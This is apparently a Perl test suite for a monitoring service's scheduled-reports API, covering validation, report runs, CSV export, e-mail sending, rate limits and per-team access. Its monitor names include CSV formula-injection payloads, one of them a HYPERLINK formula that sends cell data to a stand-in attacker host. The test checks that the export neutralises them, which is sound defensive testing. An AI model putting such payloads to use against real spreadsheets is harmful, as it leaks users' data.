# Scheduled reports over HTTP: settings and every rule of them, runs that are asked for, CSV that no spreadsheet
# takes for formulas, and nothing for other teams.

use strict;
use warnings;
use utf8;

use FindBin;
use lib "$FindBin::Bin/../lib";
use Encode qw(decode);
use JSON::PP;
use Test::More;

use BetterStack::Client;
use BetterStack::Stack;

binmode Test::More->builder->$_, ':encoding(UTF-8)' for qw(output failure_output);
my $stack = BetterStack::Stack->new(agents => 0);
my $ann = BetterStack::Client->new($stack)->sign_up('ann@example.com', 'Ann');
my $bob = BetterStack::Client->new($stack)->sign_up('bob@example.com', 'Bob');
my ($true, $false) = (JSON::PP::true, JSON::PP::false);
my $base = '/api/v2/reports';

sub id_of { my ($status, $data) = @_; return $data->{data}{id} }
sub attributes { my ($status, $data) = @_; return $data->{data}{attributes} }
sub wrong {
    my ($body, $field, $message) = @_;
    my ($status, $data) = $ann->post($base, {name => 'x', %$body});
    is_deeply [$status, $data], [422, {errors => {$field => [$message]}}], "$field $message";
}
my $ann_id = id_of($ann->get('/api/v2/me'));
my $bob_id = id_of($bob->get('/api/v2/me'));
my @names = ('=HYPERLINK("http://evil.example/?"&A1,"x")', ' +1', "-2+3", '@SUM(A1)', "\x{ff1d}1", 'Comma, "quote" & <b>', 'Größe');
my @monitors = map { id_of($ann->post('/api/v2/monitors', {url => "http://127.0.0.1:9/$_", pronounceable_name => $names[$_],
    monitor_type => 'status'})) } 0 .. $#names;
my $foreign = id_of($bob->post('/api/v2/monitors', {url => 'http://127.0.0.1:9/', monitor_type => 'status'}));
my $mail = id_of($ann->post('/api/v2/channels', {name => 'Customers', kind => 'email', settings => {to => ['c@example.org']}}));
my $chat = id_of($ann->post('/api/v2/channels', {name => 'Topic', kind => 'ntfy', settings => {topic => 'x'}}));
my $other_mail = id_of($bob->post('/api/v2/channels', {name => 'Foreign', kind => 'email', settings => {to => ['c@example.org']}}));
my $id;

subtest 'create, get, change, list' => sub {
    my $events = $ann->events;
    $events->next('hello');
    my ($status, $data) = $ann->post($base, {name => ' All ', emails => ['ANN@example.com']});
    is $status, 201, 'a name is enough' or diag explain $data;
    $id = $data->{data}{id};
    is $data->{data}{type}, 'report';
    my %got = %{$data->{data}{attributes}};
    like delete $got{$_}, qr/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/, $_
        for qw(created_at updated_at next_run_at next_from next_until);
    is_deeply \%got, {name => 'All', period => 'month', timezone => 'UTC', timezone_iana => 'Etc/UTC', all_monitors => $true,
        monitor_ids => [], user_ids => [$ann_id], emails => ['ann@example.com'], channel_ids => [], enabled => $true,
        last_run => undef, team_name => 'Ann'};
    is_deeply $events->next('change')->{data}, {type => 'report', action => 'created', id => $id}, 'dashboards are told';
    is_deeply +($ann->get("$base/$id"))[1], $data, 'get answers the same';
    my $changed = attributes($ann->patch("$base/$id", {period => 'week', timezone => 'Berlin', monitor_ids => [$monitors[1], 0 + $monitors[0]],
        user_ids => [], channel_ids => [$mail]}));
    is_deeply [@$changed{qw(name period timezone timezone_iana all_monitors monitor_ids user_ids emails channel_ids)}],
        ['All', 'week', 'Berlin', 'Europe/Berlin', $false, [@monitors[0, 1]], [], [], [$mail]], 'changed; who names monitors means those';
    is attributes($ann->patch("$base/$id", {enabled => $false}))->{next_run_at}, undef, 'off';
    is_deeply [@{attributes($ann->patch("$base/$id", {enabled => $true, all_monitors => $true, period => undef}))}{qw(period all_monitors)}],
        ['month', $true], 'null is the default';
    my ($listed, $list) = $ann->get("$base?per_page=1");
    is_deeply [map { $_->{id} } @{$list->{data}}], [$id];
    is_deeply $list->{pagination}{next}, undef;
};

subtest 'what is wrong, by field' => sub {
    wrong({name => ''}, name => 'is required');
    wrong({period => 'day'}, period => 'must be one of week, month');
    wrong({timezone => 'Mars'}, timezone => 'must be the name of a time zone, like Europe/Berlin');
    wrong({enabled => 'yes'}, enabled => 'must be true or false');
    wrong({all_monitors => $false}, monitor_ids => 'must name at least one monitor, unless all_monitors is true');
    wrong({monitor_ids => 'x'}, monitor_ids => 'must be a list of ids of monitors');
    wrong({monitor_ids => [$foreign]}, monitor_ids => "does not know the monitor $foreign");
    wrong({user_ids => [$bob_id]}, user_ids => "does not know the user $bob_id");
    wrong({user_ids => [(1) x 51]}, user_ids => 'must have at most 50 entries');
    wrong({emails => ['bob@example.com']}, emails => 'knows no member of your team with the address bob@example.com: '
        . 'add an e-mail channel for people outside of it');
    wrong({emails => 'ann@example.com'}, emails => 'must be a list of e-mail addresses');
    wrong({channel_ids => [$_]}, channel_ids => "does not know the e-mail channel $_") for $chat, $other_mail;
    wrong({next_run_at => 'x'}, next_run_at => 'is read-only');
    wrong({recipients => []}, recipients => 'is not a known attribute');
    is +($ann->post($base, [1]))[0], 400, 'no object';
};

subtest 'made now' => sub {
    my ($status, $data) = $ann->post("$base/$id/run");
    is $status, 201, 'without a body: the last period' or diag explain $data;
    my $run = $data->{data};
    is $run->{type}, 'report_run';
    is $run->{attributes}{asked_by}, 'Ann';
    is $run->{attributes}{summary}{monitors}, 0, 'when nothing was there yet';
    is_deeply $run->{attributes}{content}{notices}, ['None of the monitors was there at that time.'];
    ($status, $data) = $ann->post("$base/$id/run", {period => 'current'});
    my $content = $data->{data}{attributes}{content};
    is scalar @{$content->{monitors}}, @names, 'this month: all of them';
    is_deeply [@$content{qw(timezone timezone_iana)}], ['Berlin', 'Europe/Berlin'], 'in a zone by both of its names';
    ok !$data->{data}{attributes}{is_over}, 'it is not over';
    like $content->{notices}[0], qr/not over yet/;
    my $current = $data->{data}{id};
    $ann->patch("/api/v2/monitors/$monitors[6]", {pronounceable_name => 'renamed'});
    is_deeply +($ann->get("$base/$id/runs/$current"))[1], {data => $data->{data}}, 'what was made stays as it was';
    my ($listed, $list) = $ann->get("$base/$id/runs");
    is_deeply [map { $_->{id} } @{$list->{data}}], [$current, $run->{id}], 'newest first';
    ok !exists $list->{data}[0]{attributes}{content}, 'without content';
    is attributes($ann->get("$base/$id"))->{last_run}{id}, $current, 'the report tells of the last';
    for my $wrong ([{period => 'x'}, 'period', 'must be one of last, current'], [{day => '2026-02-30'}, 'day', 'must be a day, like 2026-03-01'],
        [{day => '2199-01-01'}, 'day', 'must not be in the future'], [{day => '1999-01-01'}, 'day', 'must be 2000-01-01 or later'],
        [{day => '2026-03-01', period => 'last'}, 'period', 'cannot be given together with day'], [{send => 1}, 'send', 'must be true or false'],
        [{x => 1}, 'x', 'is not a known attribute'])
    {
        is_deeply [($ann->post("$base/$id/run", $wrong->[0]))[0, 1]], [422, {errors => {$wrong->[1] => [$wrong->[2]]}}], "$wrong->[1]: $wrong->[2]";
    }
    is attributes($ann->post("$base/$id/run", {day => '2026-02-17'}))->{last_day}, '2026-02-28', 'the month of any day';
};

# RFC 4180, read by the letter.
sub rows {
    my ($text) = @_;
    my @rows = ([]);
    while ($text =~ /\G(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|\z)/gc) {
        my ($quoted, $plain, $end) = ($1, $2, $3);
        push @{$rows[-1]}, defined $quoted ? $quoted =~ s/""/"/gr : $plain;
        push @rows, [] if $end eq "\r\n";
        last if $end eq '';
    }
    is pos($text), length $text, 'all of it is CSV';
    pop @rows;
    return @rows;
}

subtest 'CSV' => sub {
    $ann->patch("/api/v2/monitors/$monitors[6]", {pronounceable_name => $names[6]});
    my $run = id_of($ann->post("$base/$id/run", {period => 'current'}));
    my ($status, $body, $reply) = $ann->get("$base/$id/runs/$run/export.csv");
    is $status, 200;
    is $reply->{headers}{'content-type'}, 'text/csv; charset=utf-8; header=present';
    is $reply->{headers}{'content-disposition'}, 'attachment', 'a file, not a page';
    is $reply->{headers}{'x-content-type-options'}, 'nosniff';
    my @rows = rows(decode('UTF-8', $body));
    is scalar @rows, 1 + @names, 'a line for each monitor, and one with names';
    is_deeply [grep { @$_ != @{$rows[0]} } @rows], [], 'all as long';
    is_deeply [@{$rows[0]}[0 .. 3]], [qw(monitor_id monitor url availability_percent)];
    my %shown = map { $_->[0] => $_->[1] } @rows[1 .. $#rows];
    is_deeply [grep { /^\s*[=+\-@\x{ff1d}]/ } map { @$_ } @rows], [], 'nothing is a formula';
    is $shown{$monitors[0]}, "'$names[0]", 'the text is there';
    is $shown{$monitors[5]}, $names[5], 'commas and quotes are text';
    is $shown{$monitors[6]}, $names[6], 'and so is the rest of Unicode';
    for my $table (qw(regions incidents)) {
        my @of = rows(($ann->get("$base/$id/runs/$run/export.csv?table=$table"))[1]);
        is scalar @of, 1, "$table: names of columns, and no line yet";
    }
    is_deeply [($ann->get("$base/$id/runs/$run/export.csv?table=x"))[0, 1]],
        [422, {errors => {table => ['must be one of monitors, regions, incidents']}}];
};

subtest 'sending' => sub {
    my $run = id_of($ann->post("$base/$id/run"));
    my ($status, $data) = $ann->post("$base/$id/runs/$run/send");
    is_deeply [$status, $data], [409, {errors => 'No mail server is set up for this installation'}], 'not without a mail server';
    my $administrator = BetterStack::Client->new($stack, token => $stack->token);
    is +($administrator->patch('/api/v2/installation', {smtp => {host => '127.0.0.1', port => 9, security => 'none', from => 'a@example.com'}}))[0], 200;
    ($status, $data) = $ann->post("$base/$id/runs/$run/send");
    is_deeply [$status, $data->{receivers}], [202, 1];
    is $data->{data}{attributes}{deliveries}{waiting}, 1, 'it waits for an agent';
    is +($ann->post("$base/$id/runs/$run/send"))[1]{receivers}, 0, 'nobody gets it twice';
    $ann->patch("$base/$id", {user_ids => [$ann_id]});
    is +($ann->post("$base/$id/runs/$run/send"))[1]{receivers}, 1, 'who came later does';
    my $deliveries = ($ann->get('/api/v2/deliveries?event=report'))[1]{data};
    is_deeply [sort map { "$_->{attributes}{event} $_->{attributes}{receiver_name}" } @$deliveries],
        ['report Customers', 'report ann@example.com'], 'in the log of deliveries';
    is attributes($ann->post("$base/$id/run", {send => $true}))->{deliveries}{waiting}, 2, 'made and sent at once';
};

subtest 'limits' => sub {
    my @status = map { ($ann->post("$base/$id/run"))[0] } 1 .. 30;
    is scalar(grep { $_ == 429 } @status) > 0 ? $status[-1] : 0, 429, 'not for ever';
    is +($ann->post("$base/$id/run"))[1]{errors}, 'At most 30 reports an hour can be made like this: wait a little';
    $stack->sql("insert into betterstack.report (team_id, name, period, timezone, all_monitors, monitor_ids, user_ids, channel_ids, enabled, next_on,
        created_at, updated_at) select team_id, 'x', 'week', 'UTC', true, '{}', '{}', '{}', false, '2026-01-05', now(), now()
        from betterstack.report, generate_series(2, 50)");
    wrong({}, name => 'cannot be added: a team has at most 50 reports; delete some first');
};

subtest 'nothing for others' => sub {
    my $run = ($ann->get("$base/$id/runs"))[1]{data}[0]{id};
    my $own = id_of($bob->post($base, {name => 'Mine'}));
    for my $path ("$base/$id", "$base/$id/runs", "$base/$id/runs/$run", "$base/$id/runs/$run/export.csv", "$base/$own/runs/$run",
        "$base/$own/runs/$run/export.csv")
    {
        is +($bob->get($path))[0], 404, $path;
    }
    is +($bob->post($_))[0], 404, $_ for "$base/$id/run", "$base/$id/runs/$run/send", "$base/$own/runs/$run/send";
    is scalar @{($bob->get($base))[1]{data}}, 1, 'a list of one\'s own';
    is +($ann->delete("$base/$id"))[0], 204;
    is +($ann->get("$base/$id/runs/$run"))[0], 404, 'gone with all that was made';
};

done_testing;
